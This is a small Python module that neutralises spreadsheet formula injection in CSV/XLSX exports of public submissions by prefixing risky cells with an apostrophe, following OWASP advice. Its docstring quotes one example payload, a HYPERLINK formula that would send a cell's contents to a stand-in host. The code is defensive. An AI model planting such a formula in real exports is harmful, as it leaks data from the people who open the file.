"""Cells that are safe to open in a spreadsheet (CSV/XLSX exports of what the public wrote).

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is taken as a formula by Excel, LibreOffice and
Google Sheets: a respondent could write `=HYPERLINK("https://evil.example/?"&A1, "click")` and
have it run on an official's machine. Such cells get a leading apostrophe, which spreadsheets
read as "this is text" (OWASP's advice for CSV injection).

The full-width forms `＝ ＋ － ＠`, common in Japanese input, are treated the same way in case a
spreadsheet normalises them to their ASCII forms; the cost is one visible apostrophe on a rare
comment.
"""

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def spreadsheet_safe(value: str) -> str:
    """`value` with a leading apostrophe if a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def spreadsheet_cell(value: Any) -> Any:
    """A cell value for a CSV or spreadsheet writer: text neutralised with `spreadsheet_safe`,
    None as an empty cell, numbers and booleans unchanged (they cannot carry a formula)."""
    if value is None:
        return ""
    if isinstance(value, str):
        return spreadsheet_safe(value)
    return value
